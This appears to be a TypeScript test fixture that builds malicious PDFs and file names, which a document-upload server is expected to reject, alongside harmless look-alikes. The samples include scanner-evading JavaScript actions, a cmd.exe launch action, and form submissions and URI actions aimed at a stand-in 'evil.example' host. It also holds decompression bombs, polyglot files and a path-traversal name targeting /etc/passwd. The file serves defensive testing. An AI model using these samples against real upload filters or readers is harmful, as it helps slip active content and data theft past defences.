import { deflateSync } from 'node:zlib';
import { makePdf } from '../../../support/pdf.ts';
import { packedPdf } from './compressed-pdf.ts';

/**
 * A file that the server must reject. `what` describes it. `status` and `code` are the HTTP status and the error code
 * that its upload must return.
 */
export type HostileFile = { what: string; bytes: Buffer; status: number; code?: string; name?: string };

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const plain = (text: string) => Buffer.from(text, 'latin1');
const whole = () => plain(makePdf());
const withObject = (object: string, catalog = '') => plain(makePdf([object], catalog));
const joined = (...parts: Array<Buffer | string>) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const ascii85 = () => Buffer.from('9jqo^BlbD-BleB1DJ+*+F(f,q~>');

/** A PDF that was updated `count` times. In each update, an object names the page to show on opening. */
const updated = (count: number) => {
  const version = withObject('[3 0 R /Fit]', '/OpenAction 4 0 R');
  return joined(version.subarray(0, -6), ...Array<Buffer>(count).fill(version.subarray(9, -6)), '%%EOF\n');
};

/** A PDF with an object stream that begins with `list` instead of pairs of numbers and offsets. */
const packedList = (list: string) =>
  packedPdf([], {
    keys: `/First ${list.length} /Filter /FlateDecode`,
    pack: () => deflateSync(Buffer.from(`${list} << /OpenAction 11 0 R >> [3 0 R /Fit]`)),
  });

const active: Record<string, Buffer> = {
  'a script that runs on opening': withObject(script, '/OpenAction 4 0 R'),
  'a script in the catalog itself': plain(makePdf([], `/OpenAction ${script}`)),
  'a script with an escaped name': withObject('<< /S /J#61va#53cript /#4a#53 (1) >>', '/OpenAction 4 0 R'),
  'a script whose every letter is escaped': withObject('<< /S /#4A#61#76#61#53#63#72#69#70#74 /X (1) >>'),
  'a script in a name tree': plain(makePdf([], '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>')),
  'a script that runs when a page closes': withObject('<< /AA << /C << /S /JavaScript /JS (1) >> >> >>'),
  'a script whose name is an object of its own': withObject('/JavaScript', '/OpenAction << /S 4 0 R >>'),
  'a script after a comment': withObject('<< /S % a (comment\n/JavaScript /JS (1) >>'),
  'a script after an open bracket in a hex string': withObject(`<< /T <41(42> /A << /S %x\n /JavaScript >> >>`),
  'a script that seems to be inside a string': withObject('<< /T (\\\\) /A << /S /JavaScript >> >>'),
  'a script inside a seeming stream': withObject(`<< /Length 9 >>\nstream\n5 0 obj ${script} endobj\nendstream`),
  'a script in an object stream': packedPdf([script]),
  'a script with an escaped name in an object stream': packedPdf(['<< /S /Java#53cript /JS (1) >>']),
  'a script in an object stream that hides its type': packedPdf([script], { type: '' }),
  'a script in an object stream with escaped keys': packedPdf([script], {
    type: '/Type /Obj#53tm',
    keys: '/Filter /Fl#61teDecode',
  }),
  'a script in an uncompressed object stream': packedPdf([script], { keys: '', pack: (inside) => inside }),
  'a script across the edge of two read chunks': withObject(
    `(${'x'.repeat(65_536 - 230)}) << /S /JavaScript /JS (1) >>`,
  ),
  'a script in an older version of the file': joined(withObject(script), makePdf().slice(9)),
  'a program to launch': withObject('<< /S /Launch /F (cmd.exe) >>', '/OpenAction 4 0 R'),
  'a program to launch in an object stream': packedPdf(['<< /S /Launch /F (cmd.exe) >>']),
  'an attached program': withObject('<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'),
  'an attachment in a name tree': plain(makePdf([], '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>')),
  'an attachment on a page': withObject('<< /Subtype /FileAttachment /FS 5 0 R >>'),
  'an XFA form': plain(makePdf(['<< /XFA 5 0 R /Fields [] >>'], '/AcroForm 4 0 R')),
  'a Flash animation': withObject('<< /Subtype /RichMedia /RichMediaContent 5 0 R >>'),
  'a sound that runs a script': withObject('<< /S /Rendition /JS (1) /OP 0 >>'),
  'an address to open at once': plain(makePdf([], '/OpenAction << /S /URI /URI (http://evil.example/) >>')),
  'an address in another object': withObject('<< /S /URI /URI (http://evil.example/) >>', '/OpenAction 4 0 R'),
  'an address in an object stream': packedPdf([
    '<< /OpenAction 11 0 R >>',
    '<< /S /URI /URI (http://evil.example/) >>',
  ]),
  'an address after a jump': withObject('<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', '/OpenAction 4 0 R'),
  'an address after a bracket in a string': plain(
    makePdf([], '/OpenAction << /S /GoTo /D (>>) /S /URI /URI (http://evil.example/) >>'),
  ),
  'an address after a comment': plain(
    makePdf([], '/OpenAction << /S /GoTo % >>\n /S /URI /URI (http://evil.example/) >>'),
  ),
  'an action on opening with an escaped name': plain(makePdf([], '/Open#41ction << /S /Named /N /Print >>')),
  'an action on opening that is nowhere': plain(makePdf([], '/OpenAction 99 0 R')),
  'an action that an update replaces': joined(
    withObject('<< /S /GoTo /D [3 0 R /Fit] >>', '/OpenAction 4 0 R').subarray(0, -6),
    makePdf(['<< /S /URI /URI (http://evil.example/) >>'], '/OpenAction 4 0 R').slice(9),
  ),
  'a list of objects that is one number of 300,000 digits': packedList('1'.repeat(300_000)),
  'an action that an object stream defines 300 times': packedList('11 25 '.repeat(300)),
  'a list of objects of more than 2 MB': packedList('1 1 '.repeat(600_000)),
  'an action on opening that is declared 20,000 times': withObject('[3 0 R /Fit]', '/OpenAction 4 0 R '.repeat(20_000)),
  'an action on opening that is defined 20,000 times': withObject(
    `${'[3 0 R /Fit]\nendobj\n4 0 obj '.repeat(20_000)}[3 0 R /Fit]`,
    '/OpenAction 4 0 R',
  ),
  'eleven different actions on opening': plain(
    makePdf(
      Array<string>(11).fill('[3 0 R /Fit]'),
      Array.from({ length: 11 }, (_, index) => `/OpenAction ${index + 4} 0 R`).join(' '),
    ),
  ),
  'an action when a page is shown': plain(makePdf([], '/AA << /O << /S /URI /URI (http://evil.example/) >> >>')),
  'a form that sends what was typed': withObject('<< /S /SubmitForm /F (http://evil.example/) >>'),
  'a file on another computer': withObject('<< /S /GoToR /F (\\\\\\\\host\\\\share) /D [0 /Fit] >>'),
  'a jump into an attached file': withObject('<< /S /GoToE /T << /R /C >> >>'),
};

/**
 * An object stream without a `/Type`: only the other keys of its dictionary show what it is. `entry`: more text of the
 * dictionary, placed between these keys.
 */
const untyped = (entry: string) => packedPdf([script], { type: '', keys: `${entry} /Filter /FlateDecode` });

/**
 * A PDF whose object stream begins inside a string, a comment or another stream, which `before` opens. PDF programs
 * find the object stream by a cross-reference table that points to `start`. A check that reads the file in order may
 * overlook it: the value of `/X` seems to end the string, comment or stream and to begin another object.
 */
const startsIn = (before: string, start = '5 0 obj') =>
  packedPdf([script], {
    type: `>> endobj\n7 0 obj ${before} ${start} <<`,
    keys: '/X [ <)> \n endstream 9 0 obj ] /Filter /FlateDecode',
  });

const twice = (inside: Buffer) => deflateSync(deflateSync(inside));

const opaque: Record<string, Buffer> = {
  'an object stream compressed twice': packedPdf([script], {
    keys: '/Filter [/ASCII85Decode /FlateDecode]',
    pack: ascii85,
  }),
  'an object stream deflated twice': packedPdf([script], {
    keys: '/Filter [/FlateDecode /FlateDecode]',
    pack: twice,
  }),
  'an object stream deflated twice, with the short name of the filter': packedPdf([script], {
    keys: '/Filter [/Fl /Fl#61teDecode]',
    pack: twice,
  }),
  'an object stream with one of two filters in another object': packedPdf([script], {
    keys: '/Filter [/FlateDecode 9 0 R]',
    pack: twice,
  }),
  'an object stream with one of two filters in another object, after a comment': packedPdf([script], {
    keys: '/Filter [ %/Length\n9 0 R /FlateDecode]',
    pack: twice,
  }),
  'an object stream whose filter is named as that of another file': packedPdf([script], { keys: '/F 9 0 R' }),
  'an object stream with the keyword obj in a string': packedPdf([script], { keys: '/X ( obj ) /Filter /FlateDecode' }),
  'an untyped object stream with the keyword obj in a string': untyped('/X ( obj )'),
  'an untyped object stream with the keyword obj in an array': untyped('/X [ obj ]'),
  'an untyped object stream with the keyword obj in a comment': untyped('% obj\n'),
  'an untyped object stream with the keyword obj in a hex string': untyped('/X < obj >'),
  'an untyped object stream with the keyword obj as a value': untyped('/X endobj 9 0 obj'),
  'an untyped object stream with the keyword obj after the end of a dictionary in an array':
    untyped('/X [ >> ] endobj 9 0 obj'),
  'an untyped object stream with the keyword obj after a stray bracket': untyped('/X ] /Y > endobj 9 0 obj'),
  'an untyped object stream with the end of a dictionary as a value': untyped('/X >> endobj 9 0 obj <<'),
  'an untyped object stream with three closing brackets as a value': untyped('/X >>> endobj 9 0 obj <<'),
  'an untyped object stream with a closing bracket as a value': untyped('/X > /Y >> endobj 9 0 obj <<'),
  'an untyped object stream with a bracket in a hex string': untyped('/X <(> /Y [ 9 0 obj ]'),
  'an untyped object stream with a whole stream in an array': untyped('/X [ stream endstream 9 0 obj ]'),
  'an untyped object stream with another stream in its dictionary': untyped(
    '/X << /Length 15 >> stream\n>> endobj 9 0 obj endstream',
  ),
  'an untyped object stream with the end of a stream in an array': untyped('/X [ endstream 9 0 obj ]'),
  'an untyped object stream that begins in a string': startsIn('('),
  'an untyped object stream that begins in a string, after a comment': startsIn('(', '5 0 %a\nobj'),
  'an untyped object stream that begins in a comment': startsIn('%'),
  'an untyped object stream that begins in another stream': startsIn('<< >> stream\n', '5 0obj'),
  'an untyped object stream that begins in a comment that goes on': startsIn('%', '5 0 obj ( \n ) 9 0 obj'),
  'an untyped object stream in arrays nested too deeply': untyped(`/X ${'['.repeat(600)}${']'.repeat(599)} 9 0 obj ]`),
  'an object stream with the keyword stream in a comment': packedPdf([script], {
    keys: '%stream\n/Filter /FlateDecode',
  }),
  'an object stream with the keyword stream in a list before its type': packedPdf([script], {
    type: '/X [ stream ] /Type /ObjStm',
    keys: '/Filter /FlateDecode /Y [ stream ]',
  }),
  'an object stream whose filter is in another object': packedPdf([script], { keys: '/Filter 9 0 R' }),
  'an object stream with a predictor': packedPdf([script], {
    keys: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
  }),
  'an object stream that is not deflate data': packedPdf([script], { pack: () => Buffer.from('not packed at all') }),
  'an object stream with endstream in its data': packedPdf(['null'], {
    pack: (inside) => deflateSync(joined('endstream ', inside), { level: 0 }),
  }),
  'an object stream that unpacks to 80 MB': packedPdf(['null'], { pack: () => deflateSync(Buffer.alloc(80 << 20)) }),
  'many object streams that unpack to 80 MB together': packedPdf(['null'], {
    pack: () => deflateSync(Buffer.alloc(8 << 20)),
    repeat: 10,
  }),
  'the first half of a PDF': whole().subarray(0, 150),
  'a PDF without its last line': whole().subarray(0, whole().length - 6),
  'a PDF of only its first and last lines': plain('%PDF-1.7\nstartxref\n9\n%%EOF\n'),
  'a PDF whose cross-reference table is beyond its end': plain(makePdf().replace(/startxref\n\d+/, 'startxref\n99999')),
  'a PDF followed by a ZIP': joined(whole(), 'PK\x05\x06', Buffer.alloc(18)),
  'a PDF followed by an HTML page': joined(whole(), '<script>alert(1)</script>'),
};

const foreign: Record<string, Buffer> = {
  'an empty file': Buffer.alloc(0),
  'an HTML page before a PDF': joined('<html><script>alert(1)</script>', whole()),
  'a space before a PDF': joined(' ', whole()),
  'a picture before a PDF': joined('GIF89a', Buffer.alloc(20), whole()),
  'an HTML page named as a PDF': plain('<!doctype html><script>alert(1)</script>'),
  'an executable program': joined('MZ', Buffer.alloc(300)),
  'a ZIP archive': joined('PK\x03\x04', Buffer.alloc(300)),
  'a PostScript file': plain('%!PS-Adobe-3.0\n(%PDF-1.7) show\n'),
  'a PDF in UTF-16': Buffer.from(`\ufeff${makePdf()}`, 'utf16le'),
};

const encrypted: Record<string, Buffer> = {
  'an encrypted PDF': plain(
    makePdf(['<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -44 >>']).replace('/Root', '/Encrypt 4 0 R /Root'),
  ),
  'an encrypted PDF with an escaped name': plain(makePdf().replace('/Root', '/#45ncrypt 4 0 R /Root')),
  'an encrypted PDF with a script': plain(makePdf([script]).replace('/Root', '/Encrypt 4 0 R /Root')),
};

const listed = (files: Record<string, Buffer>, status: number, code: string): HostileFile[] =>
  Object.entries(files).map(([what, bytes]) => ({ what, bytes, status, code }));

/** Files that the server must reject when a student uploads them as a document. */
export const hostileDocuments: HostileFile[] = [
  ...listed(active, 422, 'ACTIVE_CONTENT'),
  ...listed(opaque, 422, 'UNREADABLE'),
  ...listed(foreign, 415, 'WRONG_TYPE'),
  ...listed(encrypted, 422, 'ENCRYPTED'),
];

/**
 * Malicious file names that a browser could send with an upload. The keys describe them. The server ignores the file
 * name.
 */
export const hostileNames: Record<string, string> = {
  'a name as long as the part’s headers allow': `${'a'.repeat(7000)}.pdf`,
  'a name with reversed writing direction': 'invoice\u202efdp.exe',
  'a name with a path to another folder': '../../../../etc/passwd',
  'a name with a NUL': 'a.pdf\0.exe',
  'a name with a quotation mark': 'a%22; x="b.html',
  'the name of a Windows device': 'CON.pdf',
};

/**
 * PDFs that contain words or structures like those of malicious PDFs but are harmless, so that the server must accept
 * them.
 */
export const harmlessDocuments: Record<string, Buffer> = {
  'a link to a page about a script language': withObject(
    '<< /S /URI /URI (https://example.com/docs/Web/JavaScript) >>',
  ),
  'a title about launching': withObject('<< /Title (How to Launch a boat, in JavaScript) >>'),
  'an object stream after a title with the words stream and obj': packedPdf(['null'], {
    type: '/Title (A stream of teapot.obj, an obj) /X <41> /Y [1 << /Z [] >> null] >>\nendobj\n7 0 obj\n<< /Type /ObjStm',
  }),
  'an object stream after streams without an end': packedPdf(['null'], {
    type: '>> stream\nendobj 6 0 obj << >> stream\nendobj 7 0 obj\n<< /Type /ObjStm',
  }),
  'an object stream after an uncompressed one with comments': packedPdf(['null'], {
    type: '/Type /ObjStm /N 1 /First 4 >> stream\n% 6 0 obj\n<< >>\n% 7 0 obj\n<< >>\nendstream endobj\n5 0 obj\n<< /Type /ObjStm',
  }),
  'a form': plain(makePdf(['<< /Fields [] >>'], '/AcroForm 4 0 R')),
  'a jump to a page on opening': plain(makePdf([], '/OpenAction [3 0 R /Fit]')),
  'a jump as an action on opening': plain(makePdf([], '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')),
  'a jump in another object': withObject('<< /Type /Action /S /GoTo /D (a place) >>', '/OpenAction 4 0 R'),
  'a destination in another object, and a link to an address': plain(
    makePdf(['[3 0 R /Fit]', '<< /A << /S /URI /URI (http://academy.example/) >> >>'], '/OpenAction 4 0 R'),
  ),
  'a jump in an object stream': packedPdf(['<< /OpenAction 11 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>']),
  'a jump that twenty updates replace': updated(20),
  'objects in an object stream': packedPdf(['<< /Title (CDC) >>', '[1 2 3]']),
  'a picture with every byte': withObject(
    `<< /Length 512 >>\nstream\n${Buffer.from([...Array(512).keys()].map((n) => n % 256)).toString('latin1')}\nendstream`,
  ),
  'the word JavaScript in the text of a page': withObject(
    '<< /Length 30 >>\nstream\nBT (see /Web/JavaScript) Tj ET\nendstream',
  ),
};
